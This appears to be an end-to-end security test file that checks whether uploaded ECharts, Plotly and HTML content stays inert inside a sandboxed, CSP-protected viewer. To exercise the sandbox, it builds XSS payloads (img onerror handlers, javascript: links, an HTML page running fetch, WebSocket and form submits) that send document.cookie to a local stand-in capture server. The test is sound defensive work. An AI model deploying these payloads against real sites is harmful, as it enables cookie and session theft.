import http from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { BrowserContext, Page } from "playwright-core";
import { init } from "@/sdk";
import { adminSession, trpc } from "../test/helpers/sessions";
import { newPage } from "./pages";
import { useStage } from "./stage";

const stage = useStage();
let cookie: string;
beforeAll(async () => {
  cookie = await adminSession(stage.server.url);
});

// Where the payloads would send what they stole: a real server on another origin, which must
// never be asked for anything. (The browser reports requests the CSP then blocks, so the
// page's request log alone cannot tell an attempt from a request that left.)
const outsideHits: string[] = [];
const outside = http.createServer((req, res) => {
  outsideHits.push(req.url ?? "");
  res.writeHead(204).end();
});
await new Promise<void>((resolve) => outside.listen(0, "127.0.0.1", resolve));
afterAll(() => new Promise<void>((resolve) => outside.close(() => resolve())));
const OUTSIDE = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`;
const run = (tag: string) => `top.__xss='${tag}';parent.postMessage({type:'size',height:-5},'*');fetch('${OUTSIDE}/${tag}?c='+document.cookie)`;
const img = (tag: string) => `<img src=x onerror="${run(tag)}">`;
const js = (tag: string) => `javascript:${run(tag)}`;

/** An ECharts option with script in each place ECharts takes HTML or a URL. */
const evilECharts = {
  title: { text: img("title"), subtext: img("subtext"), link: js("title-link"), sublink: js("sublink"), target: "self", subtarget: "self" },
  tooltip: { show: true, trigger: "item", formatter: img("tooltip"), alwaysShowContent: true },
  legend: { data: [img("legend")], tooltip: { show: true, formatter: img("legend-tooltip") } },
  backgroundColor: { image: `${OUTSIDE}/bg.png`, repeat: "repeat" },
  xAxis: { type: "category", data: [img("axis"), "b", "c"], axisPointer: { show: true, label: { formatter: img("pointer") } }, tooltip: { show: true } },
  yAxis: { type: "value" },
  graphic: [
    { type: "text", left: 10, top: 10, style: { text: img("graphic") } },
    { type: "image", right: 10, top: 10, style: { image: `${OUTSIDE}/graphic.png`, width: 20, height: 20 } },
  ],
  series: [{
    type: "bar", name: img("legend"), data: [{ value: 3, name: img("datum") }, 2, 1],
    label: { show: true, formatter: `{a|${img("rich")}}`, rich: { a: { color: "red", backgroundColor: { image: `${OUTSIDE}/rich.png` } } } },
    markPoint: { data: [{ type: "max", name: img("markpoint") }], label: { formatter: img("markpoint-label") }, tooltip: { formatter: img("markpoint-tooltip") } },
    tooltip: { formatter: img("series-tooltip") },
  }],
};

/** A Plotly figure with script in hover templates, titles, annotations, links and images. */
const evilPlotly = {
  data: [{
    type: "scatter", mode: "lines+markers+text", x: [0, 1, 2], y: [1, 3, 2], name: img("trace"),
    text: [img("text"), `<a href="${js("text-link")}">t</a>`, "c"], hovertemplate: `${img("hover")}%{y}<extra>${img("extra")}</extra>`,
  }],
  layout: {
    title: { text: `<a href="${js("title-link")}">title</a>${img("title")}` },
    width: 500, height: 320,
    annotations: [{ x: 1, y: 3, text: `<a href="${js("annotation")}" target="_top">click me</a>`, showarrow: false }, { x: 2, y: 2, text: `<a href="${OUTSIDE}/away" target="_blank">away</a>`, showarrow: false }],
    images: [{ source: `${OUTSIDE}/layout.png`, xref: "paper", yref: "paper", x: 0, y: 1, sizex: 0.2, sizey: 0.2 }],
    xaxis: { title: { text: img("xaxis") } },
  },
  config: { showLink: true, linkText: img("link-text"), plotlyServerURL: OUTSIDE },
};

/** An HTML report whose scripts run, and try everything a page might. */
const evilHtml = `<!doctype html><html><body><p id="out">waiting</p>
<a id="away" href="${OUTSIDE}/top" target="_top">away</a> <a id="popup" href="${OUTSIDE}/popup" target="_blank">popup</a>
<img src="${OUTSIDE}/pixel.png"><form id="f" action="${OUTSIDE}/form" method="post"></form>
<script>
var reached = [];
try { top.__xss = 'html'; reached.push('top'); } catch (e) {}
try { if (document.cookie.length >= 0) reached.push('cookie'); } catch (e) {}
try { localStorage.setItem('x', '1'); reached.push('storage'); } catch (e) {}
fetch('${OUTSIDE}/fetch').catch(function () {});
fetch('/api/trpc/keys.list').then(function () { top.__xss = 'trpc'; }, function () {});
try { new WebSocket('ws://${OUTSIDE.slice("http://".length)}/ws'); } catch (e) {}
try { window.open('${OUTSIDE}/open'); } catch (e) {}
try { document.getElementById('f').submit(); } catch (e) {}
document.getElementById('out').textContent = 'script ran; reached: ' + (reached.join(',') || 'nothing');
</script></body></html>`;

type Watch = { page: Page; errors: string[]; requests: string[]; dialogs: string[]; popups: string[] };

/** A page that records every request it or its frames make, every dialog and every popup. */
async function watchedPage(context: BrowserContext): Promise<Watch> {
  const { page, errors } = await newPage(context);
  const requests: string[] = [];
  const dialogs: string[] = [];
  const popups: string[] = [];
  page.on("request", (r) => requests.push(r.url()));
  page.on("dialog", (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  context.on("page", (p) => popups.push(p.url()));
  // Records policy violations of the app's own document (the frames' blocked payloads are theirs).
  await page.addInitScript(() => {
    if (window !== window.top) return;
    (window as unknown as { __csp: string[] }).__csp = [];
    document.addEventListener("securitypolicyviolation", (e) => (window as unknown as { __csp: string[] }).__csp.push(`${e.violatedDirective} ${e.blockedURI}`));
  });
  return { page, errors, requests, dialogs, popups };
}

async function logEvilRun(): Promise<{ id: string; key: string }> {
  const server = stage.server;
  const r = await init(`${server.workspace}/${server.project}`, { url: server.url, apiKey: server.apiKey, name: "evil charts", flushIntervalMs: 50 });
  r.upload("charts/evil.echarts.json", Buffer.from(JSON.stringify(evilECharts)), { contentType: "application/json" });
  r.upload("charts/evil.plotly.json", Buffer.from(JSON.stringify(evilPlotly)), { contentType: "application/json" });
  r.upload("evil.html", Buffer.from(evilHtml), { contentType: "text/html" });
  await r.flush();
  await r.finish();
  return { id: r.id, key: r.key };
}

const block = (path: string) => `.media-block[data-path="${path}"]`;

/** Waits for the three frames to draw, then hovers and clicks all over them. */
async function drawHoverAndClick({ page }: Watch) {
  const echarts = page.frameLocator(`${block("charts/evil.echarts.json")} iframe`);
  const plotly = page.frameLocator(`${block("charts/evil.plotly.json")} iframe`);
  const html = page.frameLocator(`${block("evil.html")} iframe`).frameLocator("iframe");
  // Media render once scrolled near, as a person would reach them.
  await page.locator(block("charts/evil.echarts.json")).scrollIntoViewIfNeeded();
  await echarts.locator("canvas").first().waitFor({ timeout: 30_000 });
  await page.locator(block("charts/evil.plotly.json")).scrollIntoViewIfNeeded();
  await plotly.locator("svg.main-svg").first().waitFor({ timeout: 30_000 });
  await page.locator(block("evil.html")).scrollIntoViewIfNeeded();
  await expect.poll(() => plotly.locator(".scatterlayer .trace path").count(), { timeout: 10_000 }).toBeGreaterThan(0);
  await expect.poll(() => html.locator("#out").innerText(), { timeout: 10_000 }).toBe("script ran; reached: nothing");

  for (const path of ["charts/evil.echarts.json", "charts/evil.plotly.json"]) {
    const frame = page.locator(`${block(path)} iframe`);
    await frame.scrollIntoViewIfNeeded();
    const box = (await frame.boundingBox())!;
    // A grid over the chart: bars, points, labels, legend, title and its links.
    for (const fx of [0.05, 0.2, 0.35, 0.5, 0.65, 0.8, 0.95]) {
      for (const fy of [0.03, 0.1, 0.3, 0.5, 0.7, 0.9]) {
        await page.mouse.move(box.x + box.width * fx, box.y + box.height * fy);
      }
    }
    for (const [fx, fy] of [[0.05, 0.03], [0.1, 0.09], [0.5, 0.5], [0.5, 0.04]] as const) {
      await page.mouse.click(box.x + box.width * fx, box.y + box.height * fy);
    }
  }
  await plotly.locator(".annotation-text a").first().click({ force: true }).catch(() => {});
  await plotly.locator(".annotation-text a").nth(1).click({ force: true }).catch(() => {});
  await plotly.locator(".gtitle a").first().click({ force: true }).catch(() => {});
  await html.locator("#away").click();
  await html.locator("#popup").click();
}

async function expectNothingEscaped(w: Watch, origin: string, url: string) {
  const { page } = w;
  expect(page.url()).toBe(url);
  expect(await page.evaluate(() => (window as unknown as { __xss?: string }).__xss ?? null)).toBeNull();
  expect(outsideHits).toEqual([]);
  // Nothing asked for anywhere else either (attempts at the outside server are refused above).
  expect(w.requests.filter((u) => !u.startsWith(`${origin}/`) && !u.startsWith(`${OUTSIDE}/`) && !u.startsWith("data:") && !u.startsWith("blob:") && u !== "about:srcdoc")).toEqual([]);
  expect(w.dialogs).toEqual([]);
  expect(w.popups).toEqual([]);
  expect(await page.evaluate(() => (window as unknown as { __csp: string[] }).__csp)).toEqual([]);
  // The frames drew their charts at their own size, whatever the payloads posted back.
  for (const path of ["charts/evil.echarts.json", "charts/evil.plotly.json"]) {
    expect((await page.locator(`${block(path)} iframe`).boundingBox())!.height).toBeGreaterThan(200);
  }
  expect(w.errors).toEqual([]);
}

describe("user content sandbox", () => {
  test("pages carry a strict Content-Security-Policy and refuse framing; the sandbox frames are opaque-origin and load nothing from elsewhere", async () => {
    const base = stage.server.url;
    for (const path of ["/signin", "/", "/share/nosuchtoken", `/${stage.server.workspace}/${stage.server.project}`]) {
      const res = await fetch(base + path, { redirect: "manual" });
      const csp = res.headers.get("content-security-policy") ?? "";
      expect(csp, path).toMatch(/script-src 'self' 'nonce-[A-Za-z0-9+/=]+' 'strict-dynamic'(;|$)/);
      expect(csp, path).not.toContain("unsafe-inline' 'strict");
      for (const d of ["frame-ancestors 'none'", "object-src 'none'", "base-uri 'none'", "connect-src 'self'", "frame-src 'self'"]) expect(csp, `${path}: ${d}`).toContain(d);
      expect(res.headers.get("x-frame-options"), path).toBe("DENY");
      expect(res.headers.get("x-content-type-options"), path).toBe("nosniff");
      expect(res.headers.get("referrer-policy"), path).toBe("strict-origin-when-cross-origin");
    }
    const nonces = await Promise.all([1, 2].map(async () => (await fetch(`${base}/signin`)).headers.get("content-security-policy")!.match(/'nonce-([^']+)'/)![1]));
    expect(nonces[0]).not.toBe(nonces[1]);

    for (const kind of ["chart", "html"]) {
      const res = await fetch(`${base}/sandbox/${kind}`);
      expect(res.status).toBe(200);
      const csp = res.headers.get("content-security-policy") ?? "";
      for (const d of ["sandbox allow-scripts", "default-src 'none'", "connect-src 'none'", "img-src data: blob:", "form-action 'none'", "frame-ancestors 'self'"]) expect(csp, `${kind}: ${d}`).toContain(d);
      expect(csp).not.toContain("allow-same-origin");
      expect(csp).not.toContain("allow-top-navigation");
      expect(csp).not.toContain("allow-popups");
    }
    expect((await fetch(`${base}/sandbox/chart`)).headers.get("content-security-policy")).toContain("script-src 'self';");
    const lib = await fetch(`${base}/sandbox/lib/echarts.min.js`);
    expect(lib.status).toBe(200);
    expect(lib.headers.get("content-type")).toContain("javascript");
    const etag = lib.headers.get("etag")!;
    expect((await lib.text()).length).toBeGreaterThan(100_000);
    expect((await fetch(`${base}/sandbox/lib/echarts.min.js`, { headers: { "if-none-match": etag } })).status).toBe(304);
    expect((await fetch(`${base}/sandbox/lib/plotly.min.js`, { method: "HEAD" })).status).toBe(200);
    for (const name of ["package.json", "..%2F..%2Fpackage.json", "echarts"]) expect((await fetch(`${base}/sandbox/lib/${name}`)).status).toBe(404);
  }, 120_000);

  test("script in an uploaded ECharts option, Plotly figure or HTML file never runs on Cairn's origin or reaches another host, for a signed-in owner who hovers and clicks", async () => {
    const evil = await logEvilRun();
    const context = await stage.contextWithCookies(cookie);
    const w = await watchedPage(context);
    const url = `${stage.server.url}/${stage.server.workspace}/${stage.server.project}/runs/${evil.key}`;
    await w.page.goto(url);
    await w.page.locator('.run-media[data-live="live"]').waitFor();
    await drawHoverAndClick(w);
    await expectNothingEscaped(w, stage.server.url, url);
    // The frames are the sandbox pages, without same-origin, top navigation or popups.
    for (const path of ["charts/evil.echarts.json", "charts/evil.plotly.json", "evil.html"]) {
      expect(await w.page.locator(`${block(path)} iframe`).getAttribute("sandbox")).toBe("allow-scripts");
    }
    await context.close();
  }, 180_000);

  test("the same files behind a share link stay inert for a signed-out visitor", async () => {
    const evil = await logEvilRun();
    const project = await trpc<{ id: string }>(stage.server.url, "projects.settings", { workspace: stage.server.workspace, project: stage.server.project }, { kind: "query", cookie });
    const link = await trpc<{ token: string }>(stage.server.url, "shareLinks.create", { projectId: project.data!.id, target: { kind: "run", runId: evil.id }, label: "evil" }, { cookie });
    const context = await stage.browser.newContext();
    const w = await watchedPage(context);
    const url = `${stage.server.url}/share/${link.data!.token}`;
    await w.page.goto(url);
    await w.page.locator('.run-media[data-live="live"]').waitFor();
    await drawHoverAndClick(w);
    await expectNothingEscaped(w, stage.server.url, url);
    await context.close();
  }, 180_000);

  test("the compare page's own charts show a string parameter holding markup as text, with no policy violation", async () => {
    const note = img("param");
    const runs = [];
    for (const [i, lr] of [0.1, 0.01].entries()) {
      const r = await stage.api("POST", `/api/v1/projects/${stage.server.workspace}/${stage.server.project}/runs`, { name: note, fields: { "params/lr": lr, "params/note": `${note}${i}` } });
      await stage.api("POST", `/api/v1/runs/${r.id}/ops`, { batchId: "1", ops: [{ append: "train/loss", points: [1, 2, 3].map((s) => ({ step: s, value: lr / s })) }] });
      runs.push(r as { key: string });
    }
    const context = await stage.contextWithCookies(cookie);
    const w = await watchedPage(context);
    const url = `${stage.server.url}/${stage.server.workspace}/${stage.server.project}/compare?runs=${runs.map((r) => r.key).join(",")}`;
    await w.page.goto(url);
    await w.page.locator('.compare[data-live="live"]').waitFor();
    const chart = w.page.locator('[data-chart="train/loss"] canvas').first();
    await chart.waitFor();
    const box = (await chart.boundingBox())!;
    for (const fx of [0.1, 0.3, 0.5, 0.7, 0.9]) await w.page.mouse.move(box.x + box.width * fx, box.y + box.height / 2);
    expect(await w.page.evaluate(() => (window as unknown as { __xss?: string }).__xss ?? null)).toBeNull();
    expect(w.requests.filter((u) => !u.startsWith(`${stage.server.url}/`))).toEqual([]);
    expect(await w.page.evaluate(() => (window as unknown as { __csp: string[] }).__csp)).toEqual([]);
    expect(w.errors).toEqual([]);
    await context.close();
  }, 180_000);
});
